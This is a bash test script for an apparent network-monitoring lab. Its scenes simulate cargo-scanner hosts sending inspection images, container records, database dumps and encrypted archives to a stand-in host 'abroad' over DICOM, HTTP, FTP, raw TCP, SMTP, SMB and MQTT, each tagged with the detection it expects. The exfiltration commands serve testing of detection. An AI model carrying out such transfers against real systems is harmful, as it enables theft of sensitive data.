# shellcheck shell=bash disable=SC1091,SC2016,SC2034,SC2154
# What leaves: images, records, dumps, archives.
scene_vsftpd() { # NS ADDRESS - anonymous FTP that takes uploads
    mkdir -p "$LAB_DIR/srv/ftp/up"; chmod 777 "$LAB_DIR/srv/ftp/up"; chmod 755 "$LAB_DIR/srv/ftp"
    cat >"$LAB_DIR/etc/vsftpd2.conf" <<END
listen=YES
listen_ipv6=NO
listen_address=$2
background=NO
anonymous_enable=YES
local_enable=NO
write_enable=YES
anon_upload_enable=YES
anon_umask=022
no_anon_password=YES
anon_root=$LAB_DIR/srv/ftp
ftp_username=ftp
secure_chroot_dir=/run/vsftpd/empty
seccomp_sandbox=NO
xferlog_enable=NO
END
    rm -f "$LAB_DIR"/srv/ftp/up/*
    lab_bg case-vsftpd2 "$1" vsftpd "$LAB_DIR/etc/vsftpd2.conf"; lab_wait_port "$1" tcp 21
}
scene_record() { # ENCODING - a scan record as XML
    perl -MEncode -e 'print encode($ARGV[0], "\x{feff}<DataForm><TruckId>T-1</TruckId><PlateNumber>XX-00-00</PlateNumber><ContainerId>CSQU3054383</ContainerId><Verdict>ok</Verdict></DataForm>\n" x 1)' "$1"
}

scene content-dicom-443 exfil 'unapproved BAG-0003:inspection-data' storescu,storescp 'DICOM abroad on port 443.'
s_content_dicom_443() {
    lab_bg case-scp outside storescp --ignore -aet X 4443; lab_wait_port outside tcp 4443
    lab_in bag3 storescu -aet XRAY3 -aec X "$DROP" 4443 "$LAB_DIR/tmp/scan.dcm"
}
scene content-dicom-port80 exfil 'unapproved NII-0007:inspection-data' storescu,storescp 'DICOM abroad on a port of its own choice.'
s_content_dicom_port80() {
    lab_bg case-scp outside storescp --ignore -aet X 18080; lab_wait_port outside tcp 18080
    lab_in nii7 storescu -aet NII7 -aec X "$DROP" 18080 "$LAB_DIR/tmp/scan.dcm"
}
scene content-tiff-put exfil 'unapproved NII-0008:inspection-data' curl,nginx 'A TIFF by HTTP PUT.'
s_content_tiff_put() { send nii8 "http://$DROP/scan.tif" "$LAB_DIR/tmp/scan.tif"; }

scene content-tiff-form exfil 'unapproved NII-0008:inspection-data' curl,nginx 'A TIFF in a multipart form.'
s_content_tiff_form() { web nii8 -F "file=@$LAB_DIR/tmp/scan.tif;filename=20261122.tif" "http://$REMOTE/form"; }

scene content-tiff-raw exfil 'unapproved NII-0007:inspection-data' socat 'A TIFF over plain TCP.'
s_content_tiff_raw() { lab_sink outside tcp "$DROP" 9100; raw_to nii7 "$LAB_DIR/tmp/scan.tif" "$DROP:9100"; }

scene content-tiff-ftp exfil 'unapproved NII-0007:inspection-data' vsftpd,curl 'A TIFF by FTP, abroad.'
s_content_tiff_ftp() { scene_vsftpd outside "$DROP"; lab_in nii7 curl -sS -m 6 -T "$LAB_DIR/tmp/scan.tif" "ftp://$DROP/up/scan.tif"; }

scene content-record-utf16 exfil 'unapproved NII-0007:inspection-data NII-0007:container-number?' curl,nginx 'A scan record in UTF-16 by HTTP POST.'
s_content_record_utf16() { scene_record UTF-16LE >"$LAB_DIR/tmp/r.xml"; web nii7 --data-binary "@$LAB_DIR/tmp/r.xml" "http://$REMOTE/post"; }

scene content-container-mail exfil 'unapproved BAG-0004:container-number BAG-0004:mail' swaks,socat 'A list of container numbers by mail.'
s_content_container_mail() {
    scene_smtp
    printf 'today: CSQU3054383 MSCU6639871 TCLU4265578\n' >"$LAB_DIR/tmp/list.txt"
    lab_in bag4 swaks --silent 2 -t a@abroad.example -f nii@site.example -s "$MAIL" --header 'Subject: list' --body "@$LAB_DIR/tmp/list.txt"
    return 0
}
scene_smtp() { # a server that says yes
    cat >"$LAB_DIR/tmp/smtp.pl" <<'END'
$| = 1; my $data = 0; print "220 smtp.abroad.example ESMTP\r\n";
while (<STDIN>) {
    if ($data) { if (/^\.\r?$/) { $data = 0; print "250 2.0.0 Ok\r\n" } next }
    if (/^(EHLO|HELO)/i) { print "250 smtp.abroad.example\r\n" } elsif (/^DATA/i) { $data = 1; print "354 go\r\n" }
    elsif (/^QUIT/i) { print "221 bye\r\n"; last } else { print "250 2.1.0 Ok\r\n" }
}
END
    lab_bg case-smtp outside socat "TCP4-LISTEN:25,bind=$MAIL,reuseaddr,fork" "SYSTEM:perl $LAB_DIR/tmp/smtp.pl"
    lab_wait_port outside tcp 25
}
scene content-mail-attachment exfil 'unapproved NII-0008:inspection-data NII-0008:mail' swaks,socat 'A TIFF as a mail attachment.'
s_content_mail_attachment() { scene_smtp; lab_in nii8 swaks --silent 2 -t a@abroad.example -f x@site.example -s "$MAIL" --attach "@$LAB_DIR/tmp/scan.tif"; return 0; }

scene content-zip exfil 'unapproved NII-0007:archive' zip,curl 'A ZIP archive by HTTP PUT.'
s_content_zip() { (cd "$LAB_DIR/tmp" && rm -f a.zip && zip -q a.zip scan.tif); send nii7 "http://$DROP/a.zip" "$LAB_DIR/tmp/a.zip"; }

scene content-zip-encrypted exfil 'unapproved NII-0007:encrypted-archive NII-0007:archive?' zip,curl 'An encrypted ZIP archive by HTTP PUT.'
s_content_zip_encrypted() { (cd "$LAB_DIR/tmp" && rm -f e.zip && zip -q -P geheim e.zip scan.tif); send nii7 "http://$DROP/e.zip" "$LAB_DIR/tmp/e.zip"; }

scene content-7z-encrypted exfil 'unapproved NII-0008:archive NII-0008:encrypted-archive?' 7z,socat 'A 7z archive with encrypted names over plain TCP; that it is encrypted stands at its end.'
s_content_7z_encrypted() {
    (cd "$LAB_DIR/tmp" && rm -f e.7z && head -c 20000 scan.tif >small.tif && 7z a -pgeheim -mhe=on e.7z small.tif >/dev/null)
    lab_sink outside tcp "$DROP" 9200; raw_to nii8 "$LAB_DIR/tmp/e.7z" "$DROP:9200"
}
scene content-gpg exfil 'unapproved NII-0008:encrypted-archive NII-0008:archive?' gpg,curl 'A symmetrically encrypted OpenPGP file by HTTP PUT.'
s_content_gpg() {
    mkdir -p "$LAB_DIR/tmp/gpg"; chmod 700 "$LAB_DIR/tmp/gpg"; rm -f "$LAB_DIR/tmp/scan.gpg"
    gpg --homedir "$LAB_DIR/tmp/gpg" --batch --pinentry-mode loopback --passphrase geheim -o "$LAB_DIR/tmp/scan.gpg" -c "$LAB_DIR/tmp/scan.tif" 2>/dev/null
    send nii8 "http://$DROP/scan.gpg" "$LAB_DIR/tmp/scan.gpg"
}
scene content-sql-dump exfil 'unapproved BAG-0003:database-copy' sqlite3,curl 'An SQL dump by HTTP PUT.'
s_content_sql_dump() {
    rm -f "$LAB_DIR/tmp/d.db"; sqlite3 "$LAB_DIR/tmp/d.db" 'create table scan(id, container); insert into scan values(1, "CSQU3054383"), (2, "MSCU6639871");'
    sqlite3 "$LAB_DIR/tmp/d.db" .dump >"$LAB_DIR/tmp/d.sql"; send bag3 "http://$DROP/d.sql" "$LAB_DIR/tmp/d.sql"
}
scene content-smb exfil 'unapproved BAG-0004:inspection-data?' smbd,smbclient 'A TIFF onto a Windows share abroad.'
s_content_smb() { . "$LAB_HERE/cases/smb-out.sh"; case_setup; cp "$LAB_DIR/tmp/scan.tif" "$LAB_DIR/tmp/scan.img"; case_traffic; }

scene content-mqtt exfil 'unapproved NII-0008:inspection-data' mosquitto,mosquitto_pub 'A TIFF published over MQTT.'
s_content_mqtt() {
    printf 'listener 1883 %s\nallow_anonymous true\nuser root\n' "$DROP" >"$LAB_DIR/etc/mosquitto.conf"
    lab_bg case-mosquitto outside mosquitto -c "$LAB_DIR/etc/mosquitto.conf"; lab_wait_port outside tcp 1883
    lab_in nii8 mosquitto_pub -h "$DROP" -i nii8 -q 1 -t scanner/image -f "$LAB_DIR/tmp/scan.tif"
}
scene content-pull-http exfil 'unapproved NII-0007:inspection-data NII-0007:listens?' socat,curl 'A host abroad pulls a TIFF from a web server on the scanner.'
s_content_pull_http() {
    (printf 'HTTP/1.0 200 OK\r\nContent-Type: image/tiff\r\nContent-Length: %s\r\n\r\n' "$(stat -c %s "$LAB_DIR/tmp/scan.tif")"; cat "$LAB_DIR/tmp/scan.tif") >"$LAB_DIR/tmp/answer"
    lab_bg case-httpd nii7 socat TCP4-LISTEN:8080,bind=192.0.2.10,reuseaddr "OPEN:$LAB_DIR/tmp/answer,rdonly!!CREATE:/dev/null"; lab_wait_port nii7 tcp 8080
    lab_in outside curl -sS -m 6 --interface "$PULLER" -o /dev/null http://192.0.2.10:8080/scan.tif
}
